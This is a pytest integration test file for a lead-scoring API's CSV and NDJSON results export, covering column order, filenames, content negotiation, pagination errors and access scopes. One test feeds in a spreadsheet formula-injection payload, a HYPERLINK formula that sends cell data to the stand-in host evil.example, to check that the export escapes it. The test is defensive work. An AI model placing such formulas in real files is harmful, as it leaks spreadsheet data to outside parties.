"""Results as files over HTTP: NDJSON and CSV of a whole job, sent while they are read."""

# ruff: noqa: RUF001 (full-width look-alikes are what a spreadsheet may take for a formula)

from __future__ import annotations

from collections.abc import Callable

import orjson
import pytest
from flask.testing import FlaskClient

from shared.access.scopes import Scope
from shared.database.unit_of_work import UnitOfWork
from shared.ids import new_id
from shared.jobs.models import Job
from shared.leads.read_csv import read_csv
from shared.leads.validate import check_rows
from tests.integration.api.world import CRITERIA, add_assessment, add_call, add_item, add_job, at, csv_rows

LEAD = {
    "company_name": "Northwind, Robotics",
    "contact_name": 'Ada "the" Lead',
    "contact_phone": "+49 30 1",
    "notes": "two\nlines",
    "additional_data": {"Region": "North"},
}


def path(job: Job, query: str = "") -> str:
    """Where the job's results are."""
    return f"/api/v1/jobs/{job.id}/results{query}"


@pytest.fixture
def mixed(uow: UnitOfWork) -> Job:
    """A job with a scored, a failed and a queued lead, judged by the criteria `company_fit` and `need`."""
    job = add_job(uow, name="Müller & Söhne", total=3, queued=1, succeeded=1, failed=1)
    criteria = [{**CRITERIA[0], "key": "company_fit"}, CRITERIA[1]]
    assessment = add_assessment(uow, criteria=criteria)
    scored = {"state": "succeeded", "assessment_id": assessment.id, "attempts": 1, "completed_at": at(5)}
    add_item(uow, job, 0, **scored, input=LEAD)
    add_item(uow, job, 1, state="failed", error_code="answer_invalid", attempts=2, completed_at=at(6))
    add_item(uow, job, 2)
    add_call(uow, job, 0)
    uow.session.commit()
    return job


class TestCsv:
    def test_has_a_line_for_each_lead_that_has_ended(self, client: FlaskClient, mixed: Job) -> None:
        answer = client.get(path(mixed, "?format=csv"))
        assert (answer.status_code, answer.content_type) == (200, "text/csv; charset=utf-8; header=present")
        scored, failed = csv_rows(answer.data)
        wanted = {
            "row": "1",
            "custom_id": "row-1",
            "status": "succeeded",
            "score": "75",
            "tier": "B",
            "coverage": "0.6000",
            "company_name": "Northwind, Robotics",
            "contact_name": 'Ada "the" Lead',
            "contact_phone": "+49 30 1",
            "contact_email": "",
            "notes": "two\nlines",
            "next_question": "What is it needed for?",
            "company_fit_level": "3",
            "company_fit_points": "45.00",
            "company_fit_quote": "three warehouses",
            "company_fit_reason": "Runs three sites.",
            "need_level": "",
            "need_points": "",
            "flags": "ignore_instructions",
            "reasoning": "Company fit: Runs three sites.",
            "error_code": "",
            "attempts": "1",
            "cached": "false",
            "provider": "cerebras",
            "model": "gpt-oss-120b",
            "simulated": "false",
            "cost_usd": "0.000675000",
            "completed_at": "2026-01-15T09:00:05.000000Z",
            "additional_data": '{"Region":"North"}',
        }
        assert {name: scored[name] for name in wanted} == wanted
        assert (failed["row"], failed["score"], failed["tier"], failed["error_code"]) == ("2", "", "", "answer_invalid")
        assert failed["error_message"].startswith("The model's answer broke")
        assert failed["remedy"].startswith("Submit the lead again")

    def test_has_its_columns_in_this_order(self, client: FlaskClient, mixed: Job) -> None:
        header = client.get(path(mixed, "?format=csv")).data.decode("utf-8-sig").split("\r\n")[0].split(",")
        assert header[:8] == [
            "row",
            "custom_id",
            "status",
            "score",
            "tier",
            "coverage",
            "company_name",
            "company_website",
        ]
        at_question = header.index("next_question")
        assert header[at_question - 1 : at_question + 6] == [
            "notes",
            "next_question",
            "company_fit_level",
            "company_fit_points",
            "company_fit_quote",
            "company_fit_reason",
            "need_level",
        ]
        assert header[header.index("flags") :] == [
            "flags",
            "reasoning",
            "error_code",
            "error_message",
            "remedy",
            "attempts",
            "cached",
            "provider",
            "model",
            "simulated",
            "cost_usd",
            "completed_at",
            "additional_data",
            "override_score",
            "override_tier",
            "override_reason",
            "outcome",
        ]

    def test_is_a_download_named_after_the_job(self, client: FlaskClient, mixed: Job) -> None:
        headers = client.get(path(mixed, "?format=csv")).headers
        assert headers["Content-Disposition"] == (
            "attachment; filename=\"Muller Sohne-results.csv\"; filename*=UTF-8''M%C3%BCller%20S%C3%B6hne-results.csv"
        )
        assert (headers["Cache-Control"], headers["X-Content-Type-Options"]) == ("no-store", "nosniff")
        assert "ETag" not in headers

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
    def test_holds_no_cell_that_a_spreadsheet_would_run(self, client: FlaskClient, uow: UnitOfWork, start: str) -> None:
        evil = f'{start}HYPERLINK("http://evil.example/?q="&A1,"open")'
        job = add_job(uow, queued=0, succeeded=1)
        criteria = [{**CRITERIA[0], "key": "company_fit", "quote": evil, "reason": evil}]
        assessment = add_assessment(uow, criteria=criteria, reasoning=evil, tier=evil, next_question={"question": evil})
        lead = dict.fromkeys(("company_name", "industry", "contact_title", "notes"), evil)
        add_item(
            uow,
            job,
            0,
            state="succeeded",
            assessment_id=assessment.id,
            custom_id="-1",
            input={**lead, "additional_data": {evil: evil}},
        )
        uow.session.commit()
        (row,) = csv_rows(client.get(path(job, "?format=csv")).data)
        assert row["notes"] == row["company_fit_quote"] == f"'{evil}"
        assert [name for name, cell in row.items() if cell[:1] in {*"=+-@＝＋－＠"}] == []

    def test_gives_the_same_lead_when_it_is_sent_in_again(self, client: FlaskClient, uow: UnitOfWork) -> None:
        lead = {
            "company_name": "Northwind; -Robotics",
            "contact_phone": "+49 30 1",
            "notes": "Needs:\n- a crane;=HYPERLINK(A1)\n'- sites|+1+A1\nTel;+49 30 1",
        }
        job = add_job(uow, queued=0, failed=1)
        add_item(uow, job, 0, state="failed", error_code="answer_invalid", completed_at=at(6), input=lead)
        uow.session.commit()
        data = client.get(path(job, "?format=csv")).data
        assert b"\n- a crane;'=HYPERLINK(A1)\n''- sites|+1+A1\nTel;+49 30 1" in data
        (again,) = check_rows(read_csv(data).rows).good
        assert {name: again.input[name] for name in lead} == lead

    def test_has_only_its_header_before_anything_has_ended(self, client: FlaskClient, uow: UnitOfWork) -> None:
        job = add_job(uow, items=2)
        uow.session.commit()
        assert csv_rows(client.get(path(job, "?format=csv")).data) == []


class TestNdjson:
    def test_has_each_result_as_a_page_shows_it(self, client: FlaskClient, mixed: Job) -> None:
        answer = client.get(path(mixed, "?format=ndjson"))
        assert (answer.status_code, answer.content_type) == (200, "application/x-ndjson")
        page = client.get(path(mixed)).json
        assert page is not None
        assert [orjson.loads(line) for line in answer.data.splitlines()] == page["data"]

    def test_takes_the_jobs_id_where_it_has_no_name(self, client: FlaskClient, uow: UnitOfWork) -> None:
        job = add_job(uow)
        uow.session.commit()
        disposition = client.get(path(job, "?format=ndjson")).headers["Content-Disposition"]
        assert f'filename="{job.id}-results.ndjson"' in disposition


class TestFormat:
    @pytest.mark.parametrize(
        ("accept", "kind"),
        [
            ("*/*", "application/json"),
            ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"),
            ("text/html", "application/json"),
            ("application/x-ndjson", "application/x-ndjson"),
            ("text/csv", "text/csv"),
            ("text/csv;q=0.5, application/json", "application/json"),
            ("text/csv, */*;q=0.1", "text/csv"),
        ],
    )
    def test_is_what_accept_prefers(self, client: FlaskClient, mixed: Job, accept: str, kind: str) -> None:
        answer = client.get(path(mixed), headers={"Accept": accept})
        assert (answer.mimetype, answer.headers["Vary"]) == (kind, "Accept")

    def test_is_first_of_all_what_the_url_says(self, client: FlaskClient, mixed: Job) -> None:
        answer = client.get(path(mixed, "?format=json"), headers={"Accept": "text/csv"})
        assert answer.mimetype == "application/json"

    def test_filters_by_status_as_a_page_does(self, client: FlaskClient, mixed: Job) -> None:
        rows = csv_rows(client.get(path(mixed, "?format=csv&status=queued&status=failed")).data)
        assert [(row["row"], row["status"]) for row in rows] == [("2", "failed"), ("3", "queued")]

    def test_can_be_asked_for_without_a_byte_of_it(self, client: FlaskClient, mixed: Job) -> None:
        there = client.head(f"/api/v1/jobs/{mixed.id}/results?format=csv")
        assert (there.status_code, there.data, there.mimetype) == (200, b"", "text/csv")
        gone = client.head(f"/api/v1/jobs/{new_id()}/results?format=csv")
        assert (gone.status_code, gone.data) == (404, b"")

    @pytest.mark.parametrize("parameter", ["limit=10", "cursor=abc", "order=recent", "order=input", "index=1"])
    @pytest.mark.parametrize("form", ["csv", "ndjson"])
    def test_of_a_file_has_no_pages(self, client: FlaskClient, mixed: Job, form: str, parameter: str) -> None:
        answer = client.get(path(mixed, f"?format={form}&{parameter}"))
        assert answer.status_code == 422
        assert answer.json is not None
        assert [fault["parameter"] for fault in answer.json["errors"]] == [parameter.split("=", maxsplit=1)[0]]

    def test_does_not_matter_where_there_is_no_such_job(self, client: FlaskClient) -> None:
        answer = client.get(f"/api/v1/jobs/{new_id()}/results?format=csv")
        assert (answer.status_code, answer.json and answer.json["code"]) == (404, "job_not_found")

    def test_needs_the_scope_to_read(self, caller: Callable[..., FlaskClient], mixed: Job) -> None:
        assert caller(Scope.SUBMIT).get(path(mixed, "?format=csv")).status_code == 403
